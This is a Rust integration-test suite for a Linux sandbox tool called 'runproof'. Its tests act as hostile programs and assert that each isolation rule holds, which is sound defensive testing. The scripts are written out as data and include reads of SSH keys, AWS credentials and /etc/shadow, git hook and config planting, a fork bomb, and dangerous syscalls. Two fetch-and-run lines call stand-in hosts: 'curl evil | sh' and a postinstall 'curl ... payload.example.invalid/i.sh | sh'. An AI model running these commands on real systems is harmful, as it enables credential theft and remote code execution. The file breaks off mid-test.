//! Attacks on `runproof run`, each trying to break one rule of the default
//! policy as a hostile program would, and asserting that the rule holds.
//! All of them run the real binary on real workspaces; resource attacks are
//! bounded (a few hundred processes, at most 1 GiB) so that a broken sandbox
//! cannot harm the machine running the tests.

mod common;
use common::*;
use std::io::Write;
use std::os::unix::net::UnixListener;
use std::process::Command;
use std::time::Duration;

#[test]
fn home_secrets_and_credential_variables_are_hidden() {
    let ws = Ws::new();
    let home = tempfile::Builder::new()
        .prefix("rp-home-")
        .tempdir()
        .unwrap();
    std::fs::create_dir_all(home.path().join(".ssh")).unwrap();
    std::fs::write(home.path().join(".ssh/id_rsa"), "PRIVATE-KEY-MATERIAL").unwrap();
    std::fs::create_dir_all(home.path().join(".aws")).unwrap();
    std::fs::write(home.path().join(".aws/credentials"), "AWS-SECRET").unwrap();
    let mut c = command(
        ws.path(),
        &["--env", "GITHUB_TOKEN", "--env", "HARMLESS_FLAG"],
        "cat $HOME/.ssh/id_rsa $HOME/.aws/credentials 2>&1; env; wc -c < /etc/shadow; echo HOME=$HOME",
    );
    c.env("HOME", home.path())
        .env("GITHUB_TOKEN", "ghp_exampletoken")
        .env("OPENAI_API_KEY", "sk-example")
        .env("HARMLESS_FLAG", "yes");
    let out = finish(spawn(c), Duration::from_secs(60));
    let text = ok(&out);
    assert!(
        !text.contains("PRIVATE-KEY-MATERIAL") && !text.contains("AWS-SECRET"),
        "{text}"
    );
    assert!(
        !text.contains("ghp_exampletoken") && !text.contains("sk-example"),
        "{text}"
    );
    assert!(
        text.contains("HARMLESS_FLAG=yes"),
        "named non-secret variables pass: {text}"
    );
    assert!(
        text.contains(&format!("HOME={}", home.path().display())),
        "{text}"
    );
    assert!(
        text.lines().any(|l| l.trim() == "0"),
        "/etc/shadow must read as empty: {text}"
    );
    assert!(
        stderr(&out).contains("not passing GITHUB_TOKEN"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn writes_outside_the_workspace_fail_and_host_files_stay_hidden() {
    let ws = Ws::new();
    let outside = tempfile::Builder::new()
        .prefix("rp-outside-")
        .tempdir()
        .unwrap();
    std::fs::write(outside.path().join("secret.txt"), "OUTSIDE-SECRET").unwrap();
    std::os::unix::fs::symlink(outside.path(), ws.path().join("escape")).unwrap();
    let script = format!(
        "echo x > /etc/runproof-test 2>/dev/null && echo ETC-WRITTEN;
         echo x > /usr/runproof-test 2>/dev/null && echo USR-WRITTEN;
         cat {o}/secret.txt 2>/dev/null; cat escape/secret.txt 2>/dev/null;
         echo x > {o}/planted 2>/dev/null && echo OUTSIDE-WRITTEN;
         echo x > escape/planted 2>/dev/null && echo LINK-WRITTEN;
         echo fine > inside.txt && echo INSIDE-OK",
        o = outside.path().display()
    );
    let out = sandbox(ws.path(), &[], &script);
    let text = ok(&out);
    assert_eq!(text.trim(), "INSIDE-OK", "{text}");
    assert!(!outside.path().join("planted").exists());
    assert!(!std::path::Path::new("/etc/runproof-test").exists());
    assert_eq!(
        std::fs::read_to_string(ws.path().join("inside.txt")).unwrap(),
        "fine\n"
    );
}

#[test]
fn host_loopback_and_unix_sockets_are_unreachable() {
    let ws = Ws::new();
    let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = tcp.local_addr().unwrap().port();
    let sock_dir = tempfile::tempdir().unwrap();
    let sock_path = sock_dir.path().join("daemon.sock");
    let _unix = UnixListener::bind(&sock_path).unwrap();
    let script = format!(
        r#"python3 - <<'EOF'
import socket
for fam, addr in [(socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_INET, ("1.1.1.1", 80)), (socket.AF_UNIX, "{sock}")]:
    s = socket.socket(fam)
    s.settimeout(2)
    try:
        s.connect(addr); print("CONNECTED", addr)
    except OSError as e:
        print("refused", addr, e.errno)
import os
print("interfaces", sorted(os.listdir("/sys/class/net")) if os.path.exists("/sys/class/net") else "no-sys")
EOF"#,
        sock = sock_path.display()
    );
    let out = sandbox(ws.path(), &[], &script);
    let text = ok(&out);
    assert!(!text.contains("CONNECTED"), "{text}");
    assert_eq!(text.matches("refused").count(), 3, "{text}");
}

#[test]
fn host_processes_are_invisible_and_unkillable() {
    let ws = Ws::new();
    let marker = unique("rp-victim");
    let mut victim = Command::new("bash")
        .args(["-c", &format!("exec -a {marker} sleep 60")])
        .spawn()
        .unwrap();
    let vpid = victim.id();
    let script = format!(
        "ls /proc | grep -E '^[0-9]+$' | wc -l; kill -9 {vpid} 2>&1 && echo KILLED; echo $$"
    );
    let out = sandbox(ws.path(), &[], &script);
    let text = ok(&out);
    let lines: Vec<&str> = text.lines().collect();
    let nprocs: usize = lines[0].trim().parse().unwrap();
    assert!(
        nprocs <= 6,
        "only the sandbox's own processes are visible, saw {nprocs}"
    );
    assert!(!text.contains("KILLED"), "{text}");
    assert!(
        victim.try_wait().unwrap().is_none(),
        "the host process must survive"
    );
    victim.kill().unwrap();
    let _ = victim.wait();
}

#[test]
fn leftover_daemons_die_with_the_run() {
    let ws = Ws::new();
    let marker = unique("rp-daemon");
    let script = format!(
        "(setsid bash -c 'exec -a {marker} sleep 300' &) ; sleep 0.3; grep -qs {marker} /proc/[0-9]*/cmdline && echo started"
    );
    let out = sandbox(ws.path(), &[], &script);
    assert!(ok(&out).contains("started"));
    assert!(
        wait_until(Duration::from_secs(5), || pids_with(&marker).is_empty()),
        "daemon survived the run: {:?}",
        pids_with(&marker)
    );
}

#[test]
fn killing_runproof_kills_the_sandbox() {
    let ws = Ws::new();
    let marker = unique("rp-orphan");
    let g = spawn(command(
        ws.path(),
        &[],
        &format!("exec bash -c 'exec -a {marker} sleep 300'"),
    ));
    assert!(
        wait_until(Duration::from_secs(10), || !pids_with(&marker).is_empty()),
        "sandboxed process never started"
    );
    // SIGKILL runproof itself (not the group): nothing may outlive it.
    // SAFETY: kill our own child.
    unsafe { libc::kill(g.0.id() as i32, libc::SIGKILL) };
    assert!(
        wait_until(Duration::from_secs(5), || pids_with(&marker).is_empty()),
        "sandboxed process outlived runproof"
    );
    drop(g);
}

#[test]
fn process_flood_is_capped_by_pids_limit() {
    let ws = Ws::new();
    // Forks at most 500 sleepers; the limit stops it far earlier.
    let script = r#"python3 - <<'EOF'
import os, time
n = 0
for i in range(500):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30); os._exit(0)
    n += 1
print("forked", n)
EOF"#;
    let out = sandbox(ws.path(), &["--pids", "64"], script);
    let text = ok(&out);
    let n: usize = text
        .trim()
        .strip_prefix("forked ")
        .unwrap()
        .parse()
        .unwrap();
    assert!(n < 64, "pids limit not enforced: forked {n}");
}

/// Every sandboxed process starts inside the sandbox's own cgroup in each
/// hierarchy that carries its limits (and in the v2 hierarchy, which
/// tracks and kills, whenever one is mounted), and sees only its own
/// cgroup as `/` through its cgroup namespace.
#[test]
fn sandboxed_processes_start_inside_their_cgroups() {
    let ws = Ws::new();
    let marker = unique("rp-cg");
    let mut c = command(
        ws.path(),
        &["--memory", "256M", "--pids", "64", "--format", "json"],
        &format!("cat /proc/self/cgroup; exec bash -c 'exec -a {marker} sleep 30'"),
    );
    c.stdout(std::process::Stdio::piped());
    let g = spawn(c);
    let sup = g.0.id();
    assert!(
        wait_until(Duration::from_secs(10), || !pids_with(&marker).is_empty()),
        "sandboxed process never started"
    );
    let pid = pids_with(&marker)[0];
    let host_view = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap();
    let v2_mounted = std::fs::read_to_string("/proc/self/mountinfo")
        .unwrap()
        .contains(" - cgroup2 ");
    let own = format!("/runproof-{sup}-");
    let mut checked = Vec::new();
    for line in host_view.lines() {
        let mut it = line.splitn(3, ':');
        let (_, ctrls, path) = (it.next(), it.next().unwrap(), it.next().unwrap());
        let limits = ctrls.split(',').any(|c| c == "memory" || c == "pids");
        if limits || (ctrls.is_empty() && v2_mounted) {
            let leaf = path.rsplit('/').next().unwrap();
            assert!(
                format!("/{leaf}").starts_with(&own),
                "hierarchy {ctrls:?}: the sandboxed process is in {path}, not in runproof-{sup}-N\n{host_view}"
            );
            checked.push(if ctrls.is_empty() { "v2" } else { ctrls });
        }
    }
    assert!(
        checked.iter().any(|c| c.contains("memory") || *c == "v2")
            && checked.iter().any(|c| c.contains("pids") || *c == "v2"),
        "memory and pids hierarchies not found: {host_view}"
    );
    // SAFETY: end the sandboxed sleep; the run then finishes normally.
    unsafe { libc::kill(pid, libc::SIGKILL) };
    let out = finish(g, Duration::from_secs(30));
    let inside = stdout(&out);
    assert!(
        inside.lines().all(|l| l.ends_with(":/")),
        "the sandbox sees host cgroup paths: {inside}"
    );
    let line = stderr(&out)
        .lines()
        .rev()
        .find(|l| l.starts_with('{'))
        .unwrap()
        .to_string();
    let v: serde_json::Value = serde_json::from_str(&line).unwrap();
    let cg = v["layers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["layer"] == "cgroup")
        .unwrap();
    let detail = cg["detail"].as_str().unwrap();
    // Say which way each hierarchy was entered; on v2, without migrating.
    if v2_mounted {
        assert!(detail.contains("clone3(CLONE_INTO_CGROUP)"), "{detail}");
    }
    if checked.iter().any(|c| !c.is_empty() && *c != "v2") {
        assert!(detail.contains("wrote itself to tasks"), "{detail}");
    }
}

/// Stage A is kept off the supervisor's CPU while it builds the namespaces
/// (so that the cgroups are made meanwhile); the sandbox must still get
/// every CPU that runproof itself may use.
#[test]
fn sandboxed_processes_keep_every_cpu_runproof_has() {
    let allowed = |status: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix("Cpus_allowed_list:"))
            .map(|v| v.trim().to_string())
            .unwrap_or_else(|| panic!("no Cpus_allowed_list in {status}"))
    };
    let host = allowed(&std::fs::read_to_string("/proc/self/status").unwrap());
    let ws = Ws::new();
    for _ in 0..3 {
        let out = sandbox(ws.path(), &[], "cat /proc/self/status");
        assert_eq!(allowed(&ok(&out)), host, "the sandbox lost CPUs");
    }
}

#[test]
fn memory_bomb_is_killed_with_137() {
    let ws = Ws::new();
    let out = sandbox(
        ws.path(),
        &["--memory", "128M"],
        "python3 -c 'b = bytearray(1 << 30); print(len(b))'",
    );
    assert_eq!(code(&out), 137, "{}", stderr(&out));
    assert!(stderr(&out).contains("memory limit"), "{}", stderr(&out));
}

#[test]
fn tmp_is_private_and_size_capped() {
    let ws = Ws::new();
    let marker = unique("rp-tmpfill");
    let out = sandbox(
        ws.path(),
        &["--tmp-size", "16M"],
        &format!(
            "dd if=/dev/zero of=/tmp/{marker} bs=1M count=64 2>&1 | grep -c 'No space left'; df -m /tmp | tail -1"
        ),
    );
    let text = ok(&out);
    assert_eq!(
        text.lines().next(),
        Some("1"),
        "the write must stop at the cap: {text}"
    );
    assert!(text.contains("tmpfs") && text.contains(" 16 "), "{text}");
    assert!(
        !std::path::Path::new("/tmp").join(&marker).exists(),
        "sandbox /tmp leaked to the host"
    );
}

#[test]
fn planted_hooks_and_agent_config_never_reach_the_host() {
    let ws = Ws::git();
    let script = "
        echo '#!/bin/sh' > .git/hooks/pre-commit 2>/dev/null && echo HOOK-WRITTEN
        echo '[core] fsmonitor = evil' >> .git/config 2>/dev/null && echo CONFIG-WRITTEN
        echo 'curl evil | sh' > .bashrc && echo bashrc-created
        mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo vscode-created
        echo '{\"mcpServers\":{}}' > .mcp.json && echo mcp-created
        echo 'print(1)' > work.py
        git add work.py && git commit -qm work && echo COMMITTED
        true
    ";
    let before = std::fs::read_to_string(ws.path().join(".git/config")).unwrap();
    let out = sandbox(ws.path(), &[], script);
    let text = ok(&out);
    assert!(
        !text.contains("HOOK-WRITTEN") && !text.contains("CONFIG-WRITTEN"),
        "{text}"
    );
    assert!(
        text.contains("COMMITTED"),
        "git itself must still work: {text}"
    );
    assert_eq!(
        std::fs::read_to_string(ws.path().join(".git/config")).unwrap(),
        before
    );
    assert!(!ws.path().join(".git/hooks/pre-commit").exists());
    for p in [".bashrc", ".vscode", ".mcp.json"] {
        assert!(
            !ws.path().join(p).exists(),
            "{p} was planted in the host workspace"
        );
    }
    let err = stderr(&out);
    assert!(
        err.contains(".bashrc") && err.contains(".mcp.json") && err.contains(".vscode"),
        "{err}"
    );
}

#[test]
fn renaming_git_away_does_not_plant_a_hook() {
    let ws = Ws::git();
    let script = "mv .git .git-old && mkdir -p .git/hooks && printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/post-checkout && echo RENAMED";
    let out = sandbox(ws.path(), &[], script);
    // The rename is refused (the protected mounts inside .git are busy); if a
    // kernel allowed it, the guard must have put the real repository back.
    assert!(
        stderr(&out).contains("busy") || stderr(&out).contains(".git"),
        "{}",
        stderr(&out)
    );
    assert!(
        !ws.path().join(".git/hooks/post-checkout").exists(),
        "hook planted through a renamed .git"
    );
    assert!(ws.path().join(".git/HEAD").exists() || ws.path().join(".git-old/HEAD").exists());
}

#[test]
fn dangerous_syscalls_are_refused() {
    let ws = Ws::new();
    let script = r#"python3 - <<'EOF'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(name, nr, *args):
    r = libc.syscall(nr, *args)
    print(name, r, ctypes.get_errno())
# x86_64 numbers
call("unshare", 272, 0x10000000)        # CLONE_NEWUSER
call("bpf", 321, 0, 0, 0)
call("keyctl", 250, 0, 0, 0)
call("ptrace", 101, 16, 1, 0, 0)        # PTRACE_ATTACH to init
call("io_uring_setup", 425, 8, 0)
call("mount", 165, 0, 0, 0, 0, 0)
call("userfaultfd", 323, 0)
call("perf_event_open", 298, 0, 0, -1, -1, 0)
call("setns", 308, 0, 0)
call("init_module", 175, 0, 0, 0)
status = open("/proc/self/status").read()
for key in ("CapEff", "CapBnd", "NoNewPrivs", "Seccomp"):
    print([l for l in status.splitlines() if l.startswith(key)][0].replace("\t", " "))
EOF"#;
    let out = sandbox(ws.path(), &[], script);
    let text = ok(&out);
    for name in [
        "unshare",
        "bpf",
        "keyctl",
        "ptrace",
        "io_uring_setup",
        "mount",
        "userfaultfd",
        "perf_event_open",
        "setns",
        "init_module",
    ] {
        let line = text
            .lines()
            .find(|l| l.starts_with(&format!("{name} ")))
            .unwrap_or_else(|| panic!("{name} missing: {text}"));
        assert!(
            line.starts_with(&format!("{name} -1 ")),
            "{name} was not refused: {line}"
        );
    }
    assert!(text.contains("CapEff: 0000000000000000"), "{text}");
    assert!(text.contains("CapBnd: 0000000000000000"), "{text}");
    assert!(text.contains("NoNewPrivs: 1"), "{text}");
    assert!(text.contains("Seccomp: 2"), "{text}");
    let out = sandbox(ws.path(), &[], "unshare -U true 2>&1; echo rc=$?");
    assert!(ok(&out).contains("rc=1"), "{}", stdout(&out));
}

/// Run a script with a real terminal (a pty whose slave is runproof's
/// stdin, stdout and stderr), typing `input` into it; returns what the
/// terminal showed.
fn on_pty(ws: &std::path::Path, script: &str, input: &[u8]) -> String {
    let (mut master, mut slave) = (0, 0);
    // SAFETY: openpty writes two descriptors.
    unsafe {
        libc::openpty(
            &mut master,
            &mut slave,
            std::ptr::null_mut(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
    let mut c = command(ws, &[], script);
    // SAFETY: dup the slave for each standard stream of the child.
    unsafe {
        use std::os::fd::FromRawFd;
        c.stdin(std::process::Stdio::from_raw_fd(libc::dup(slave)));
        c.stdout(std::process::Stdio::from_raw_fd(libc::dup(slave)));
        c.stderr(std::process::Stdio::from_raw_fd(libc::dup(slave)));
    }
    let child = Group(c.spawn().unwrap());
    unsafe { libc::close(slave) };
    let mut out = Vec::new();
    let mut typed = false;
    let start = std::time::Instant::now();
    let mut g = child;
    loop {
        let mut buf = [0u8; 4096];
        let mut pfd = libc::pollfd {
            fd: master,
            events: libc::POLLIN,
            revents: 0,
        };
        // SAFETY: polling and reading our own pty master.
        if unsafe { libc::poll(&mut pfd, 1, 100) } > 0 {
            let n = unsafe { libc::read(master, buf.as_mut_ptr().cast(), buf.len()) };
            if n > 0 {
                out.extend_from_slice(&buf[..n as usize]);
            }
        }
        if !typed && String::from_utf8_lossy(&out).contains("READY") {
            // SAFETY: writing to our own pty master.
            unsafe { libc::write(master, input.as_ptr().cast(), input.len()) };
            typed = true;
        }
        if g.0.try_wait().unwrap().is_some() && unsafe { libc::poll(&mut pfd, 1, 50) } <= 0 {
            break;
        }
        assert!(
            start.elapsed() < Duration::from_secs(60),
            "pty run hung: {}",
            String::from_utf8_lossy(&out)
        );
    }
    unsafe { libc::close(master) };
    let _ = &mut g;
    String::from_utf8_lossy(&out).into_owned()
}

#[test]
fn tiocsti_cannot_inject_into_a_terminal() {
    let ws = Ws::new();
    let text = on_pty(
        ws.path(),
        "python3 -c \"import fcntl, termios, sys\ntry:\n fcntl.ioctl(0, termios.TIOCSTI, b'X'); print('INJECTED')\nexcept OSError as e: print('refused', e.errno)\"",
        b"",
    );
    assert!(text.contains("refused 1"), "{text}");
    assert!(!text.contains("INJECTED"), "{text}");
}

#[test]
fn interactive_programs_get_a_private_terminal() {
    let ws = Ws::new();
    let text = on_pty(
        ws.path(),
        "tty; test -t 0 && echo stdin-is-a-tty; echo READY; read line; echo \"got:$line\"",
        b"hello sandbox\n",
    );
    assert!(
        text.contains("/dev/pts/"),
        "the command has its own pty: {text}"
    );
    assert!(text.contains("stdin-is-a-tty"), "{text}");
    assert!(
        text.contains("got:hello sandbox"),
        "input is relayed: {text}"
    );
}

#[test]
fn piped_stdin_passes_through() {
    let ws = Ws::new();
    let mut c = command(ws.path(), &[], "tr a-z A-Z");
    c.stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let mut g = Group(c.spawn().unwrap());
    g.0.stdin
        .take()
        .unwrap()
        .write_all(b"through the sandbox\n")
        .unwrap();
    let out = finish(g, Duration::from_secs(60));
    assert_eq!(ok(&out), "THROUGH THE SANDBOX\n");
}

#[test]
fn two_sandboxes_side_by_side_cannot_see_each_other() {
    let a = Ws::new();
    let b = Ws::new();
    a.write("a-secret.txt", "SECRET-A");
    b.write("b-secret.txt", "SECRET-B");
    let ga = spawn(command(
        a.path(),
        &[],
        &format!(
            "sleep 0.5; cat {}/b-secret.txt 2>&1; echo done-a > out.txt",
            b.path().display()
        ),
    ));
    let gb = spawn(command(
        b.path(),
        &[],
        &format!(
            "sleep 0.5; cat {}/a-secret.txt 2>&1; echo done-b > out.txt",
            a.path().display()
        ),
    ));
    let oa = finish(ga, Duration::from_secs(60));
    let ob = finish(gb, Duration::from_secs(60));
    assert!(!ok(&oa).contains("SECRET-B"));
    assert!(!ok(&ob).contains("SECRET-A"));
    assert_eq!(
        std::fs::read_to_string(a.path().join("out.txt")).unwrap(),
        "done-a\n"
    );
    assert_eq!(
        std::fs::read_to_string(b.path().join("out.txt")).unwrap(),
        "done-b\n"
    );
}

#[test]
fn timeout_ends_the_run_with_124() {
    let ws = Ws::new();
    let start = std::time::Instant::now();
    let out = sandbox(ws.path(), &["--timeout", "1"], "sleep 30");
    assert_eq!(code(&out), 124, "{}", stderr(&out));
    assert!(start.elapsed() < Duration::from_secs(10));
}

#[test]
fn exit_status_and_signals_pass_through() {
    let ws = Ws::new();
    assert_eq!(code(&sandbox(ws.path(), &[], "exit 7")), 7);
    assert_eq!(code(&sandbox(ws.path(), &[], "kill -TERM $$")), 128 + 15);
    let out = finish(
        spawn({
            let mut c = std::process::Command::new(bin());
            c.args(["run", "--workspace"])
                .arg(ws.path())
                .args(["--", "/no/such/program"]);
            use std::os::unix::process::CommandExt;
            c.process_group(0);
            c
        }),
        Duration::from_secs(30),
    );
    assert_eq!(code(&out), 127, "{}", stderr(&out));
}

#[test]
fn setup_failures_refuse_to_run_with_125() {
    let ws = Ws::new();
    let marker = ws.path().join("ran");
    let script = format!("touch {}", marker.display());
    let out = sandbox(ws.path(), &["--ro", "/definitely/not/here"], &script);
    assert_eq!(code(&out), 125, "{}", stderr(&out));
    assert!(
        stderr(&out).contains("/definitely/not/here"),
        "{}",
        stderr(&out)
    );
    let bad = tempfile::Builder::new()
        .prefix("bad,dir")
        .tempdir()
        .unwrap();
    let out = sandbox(
        ws.path(),
        &["--overlay", bad.path().to_str().unwrap()],
        &script,
    );
    assert_eq!(code(&out), 125, "{}", stderr(&out));
    assert!(
        !marker.exists(),
        "the command ran although the sandbox was refused"
    );
    let out = finish(
        spawn({
            let mut c = std::process::Command::new(bin());
            c.args(["run", "--workspace", "/", "--", "true"]);
            use std::os::unix::process::CommandExt;
            c.process_group(0);
            c
        }),
        Duration::from_secs(30),
    );
    assert_eq!(code(&out), 125);
    assert!(
        stderr(&out).contains("system directory"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn audit_log_records_exec_connect_and_exit() {
    let ws = Ws::new();
    let audit = ws.path().join("audit.jsonl");
    let out = sandbox(
        ws.path(),
        &["--audit", audit.to_str().unwrap()],
        "/bin/echo hello-audit; python3 -c 'import socket; s=socket.socket(); s.settimeout(1)\ntry: s.connect((\"10.1.2.3\", 443))\nexcept OSError: pass'",
    );
    ok(&out);
    let text = std::fs::read_to_string(&audit).unwrap();
    let events: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(events.first().unwrap()["event"], "start");
    assert_eq!(events.last().unwrap()["event"], "exit");
    assert!(
        events.iter().any(|e| e["event"] == "exec"
            && e["path"] == "/bin/echo"
            && e["argv"][1] == "hello-audit"),
        "{text}"
    );
    assert!(
        events.iter().any(|e| e["event"] == "connect"
            && e["address"] == "10.1.2.3:443"
            && e["allowed"] == false),
        "{text}"
    );
    let ts: Vec<f64> = events.iter().map(|e| e["t"].as_f64().unwrap()).collect();
    assert!(
        ts.windows(2).all(|w| w[0] <= w[1]),
        "timestamps are monotonic"
    );
    assert!(
        events[0]["layers"]
            .as_array()
            .unwrap()
            .iter()
            .any(|l| l["layer"] == "landlock")
    );
}

#[test]
fn overlay_keeps_the_host_workspace_untouched() {
    let ws = Ws::new();
    ws.write("keep.txt", "original\n");
    ws.write("gone.txt", "delete me\n");
    let upper = tempfile::Builder::new()
        .prefix("rp-upper-")
        .tempdir()
        .unwrap();
    let up = upper.path().join("layer");
    let out = sandbox(
        ws.path(),
        &["--overlay", up.to_str().unwrap()],
        "echo changed > keep.txt; rm gone.txt; echo new > new.txt; cat keep.txt",
    );
    assert_eq!(ok(&out).trim(), "changed");
    assert_eq!(
        std::fs::read_to_string(ws.path().join("keep.txt")).unwrap(),
        "original\n"
    );
    assert!(ws.path().join("gone.txt").exists() && !ws.path().join("new.txt").exists());
    assert_eq!(
        std::fs::read_to_string(up.join("keep.txt")).unwrap(),
        "changed\n"
    );
    assert_eq!(
        std::fs::read_to_string(up.join("new.txt")).unwrap(),
        "new\n"
    );
}

#[test]
fn real_work_runs_inside_python_pytest_git() {
    let ws = Ws::git();
    ws.write("calc.py", "def add(a, b):\n    return a + b\n");
    ws.write(
        "test_calc.py",
        "from calc import add\n\ndef test_add():\n    assert add(2, 3) == 5\n",
    );
    let out = sandbox(
        ws.path(),
        &[],
        "python3 -m pytest -q -p no:cacheprovider 2>&1 | tail -1; git add -A && git commit -qm 'add calc' && git log --oneline | wc -l",
    );
    let text = ok(&out);
    assert!(text.contains("1 passed"), "{text}");
    assert!(text.trim().ends_with('1'), "{text}");
}

#[test]
fn real_work_runs_inside_cargo_build() {
    let ws = Ws::new();
    ws.write(
        "Cargo.toml",
        "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\n",
    );
    ws.write("src/main.rs", "fn main() { println!(\"tiny-ok\"); }\n");
    let out = sandbox(
        ws.path(),
        &["--timeout", "300"],
        "cargo run --offline -q 2>&1",
    );
    assert!(ok(&out).contains("tiny-ok"), "{}", stdout(&out));
}

#[test]
fn real_work_runs_inside_npm_test() {
    let ws = Ws::new();
    ws.write(
        "package.json",
        "{\"name\":\"tiny\",\"version\":\"1.0.0\",\"scripts\":{\"test\":\"node --test\"}}\n",
    );
    ws.write("test/add.test.js", "const test = require('node:test');\nconst assert = require('node:assert');\ntest('adds', () => assert.strictEqual(1 + 2, 3));\n");
    let out = sandbox(
        ws.path(),
        &["--timeout", "120"],
        "npm test --offline 2>&1 | grep -E '^# (pass|fail)'",
    );
    let text = ok(&out);
    assert!(
        text.contains("# pass 1") && text.contains("# fail 0"),
        "{text}"
    );
}

#[test]
fn policy_file_and_flags_combine() {
    let ws = Ws::new();
    let pol = ws.write(
        "policy.toml",
        "[env]\npass = [\"FROM_POLICY=1\"]\n[limits]\ntimeout = \"1\"\n",
    );
    let out = sandbox(
        ws.path(),
        &["--policy", pol.to_str().unwrap(), "--timeout", "30"],
        "echo $FROM_POLICY; sleep 2; echo survived",
    );
    let text = ok(&out);
    assert!(
        text.contains('1') && text.contains("survived"),
        "flags override the policy: {text}"
    );
    let bad = ws.write("bad.toml", "[limits]\nmemroy = \"1G\"\n");
    let out = sandbox(ws.path(), &["--policy", bad.to_str().unwrap()], "true");
    assert_eq!(code(&out), 2);
    assert!(stderr(&out).contains("memroy"), "{}", stderr(&out));
}

#[test]
fn doctor_reports_every_layer() {
    let out = std::process::Command::new(bin())
        .args(["doctor", "--format", "json"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let layers: Vec<&str> = v["layers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["layer"].as_str().unwrap())
        .collect();
    for l in [
        "user namespace",
        "namespaces",
        "overlayfs",
        "landlock",
        "seccomp",
        "cgroup",
    ] {
        assert!(layers.contains(&l), "{l} missing from {layers:?}");
    }
    let _ = std::io::stdout().flush();
}

#[test]
fn cpu_time_limit_ends_a_busy_loop_with_152() {
    let ws = Ws::new();
    let start = std::time::Instant::now();
    let out = sandbox(ws.path(), &["--cpu", "1"], "python3 -c 'while True: pass'");
    assert_eq!(code(&out), 152, "{}", stderr(&out));
    assert!(start.elapsed() < Duration::from_secs(30));
}

#[test]
fn extra_path_rules_read_write_and_deny() {
    let ws = Ws::new();
    let ro = tempfile::Builder::new().prefix("rp-ro-").tempdir().unwrap();
    let rw = tempfile::Builder::new().prefix("rp-rw-").tempdir().unwrap();
    std::fs::write(ro.path().join("data.txt"), "READ-ONLY-DATA").unwrap();
    let secret = ws.write("config/secret.key", "WORKSPACE-SECRET");
    let script = format!(
        "cat {ro}/data.txt; echo x > {ro}/new 2>/dev/null && echo RO-WRITTEN; echo out > {rw}/result && echo RW-OK; cat config/secret.key 2>/dev/null; echo",
        ro = ro.path().display(),
        rw = rw.path().display()
    );
    let out = sandbox(
        ws.path(),
        &[
            "--ro",
            ro.path().to_str().unwrap(),
            "--rw",
            rw.path().to_str().unwrap(),
            "--deny",
            secret.to_str().unwrap(),
        ],
        &script,
    );
    let text = ok(&out);
    assert!(
        text.contains("READ-ONLY-DATA") && text.contains("RW-OK"),
        "{text}"
    );
    assert!(
        !text.contains("RO-WRITTEN") && !text.contains("WORKSPACE-SECRET"),
        "{text}"
    );
    assert_eq!(
        std::fs::read_to_string(rw.path().join("result")).unwrap(),
        "out\n"
    );
    assert_eq!(
        std::fs::read_to_string(&secret).unwrap(),
        "WORKSPACE-SECRET",
        "deny hides, never deletes"
    );
}

#[test]
fn loopback_inside_the_sandbox_works_for_local_servers() {
    let ws = Ws::new();
    let script = r#"python3 - <<'EOF'
import socket, threading
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
port = srv.getsockname()[1]
def serve():
    c, _ = srv.accept(); c.sendall(b"pong"); c.close()
threading.Thread(target=serve).start()
cli = socket.create_connection(("127.0.0.1", port), timeout=5)
print(cli.recv(4).decode())
EOF"#;
    assert_eq!(ok(&sandbox(ws.path(), &[], script)).trim(), "pong");
}

#[test]
fn refused_syscalls_are_audited_as_denied() {
    let ws = Ws::new();
    let audit = ws.path().join("audit.jsonl");
    let out = sandbox(
        ws.path(),
        &["--audit", audit.to_str().unwrap()],
        "python3 -c 'import ctypes; print(ctypes.CDLL(None).syscall(321, 0, 0, 0))'",
    );
    assert_eq!(ok(&out).trim(), "-1");
    let text = std::fs::read_to_string(&audit).unwrap();
    assert!(
        text.lines()
            .any(|l| l.contains("\"event\":\"denied\"") && l.contains("\"bpf\"")),
        "{text}"
    );
}

#[test]
fn json_summary_reports_layers_and_usage() {
    let ws = Ws::new();
    let out = sandbox(
        ws.path(),
        &["--format", "json", "--memory", "256M"],
        "python3 -c 'b = bytearray(64 << 20)'",
    );
    ok(&out);
    let line = stderr(&out)
        .lines()
        .rev()
        .find(|l| l.starts_with('{'))
        .unwrap()
        .to_string();
    let v: serde_json::Value = serde_json::from_str(&line).unwrap();
    assert_eq!(v["exit"]["exit_status"], 0);
    assert!(
        v["exit"]["peak_memory_bytes"].as_u64().unwrap() >= 64 << 20,
        "{v}"
    );
    assert!(
        v["exit"]["peak_memory_source"]
            .as_str()
            .unwrap()
            .starts_with("cgroup"),
        "{v}"
    );
    let cg = v["layers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["layer"] == "cgroup")
        .unwrap();
    assert_eq!(cg["state"], "enforced", "{v}");
}

#[test]
fn prerun_scan_refuses_a_hostile_project_unless_trusted() {
    let ws = Ws::new();
    ws.write(
        "package.json",
        "{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl -s https://payload.example.invalid/i.sh | sh\"}}\n",
    );
    let marker = ws.path().join("ran");
    let script = format!("touch {}", marker.display());
    let out = sandbox(ws.path(), &[], &script);
    assert_eq!(code(&out), 125, "{}", stderr(&out));
    assert!(
        stderr(&out).contains("refusing to run") && stderr(&out).contains("postinstall"),
        "{}",
        stderr(&out)
    );
    assert!(
        !marker.exists(),
        "the command ran although the scan refused"
    );
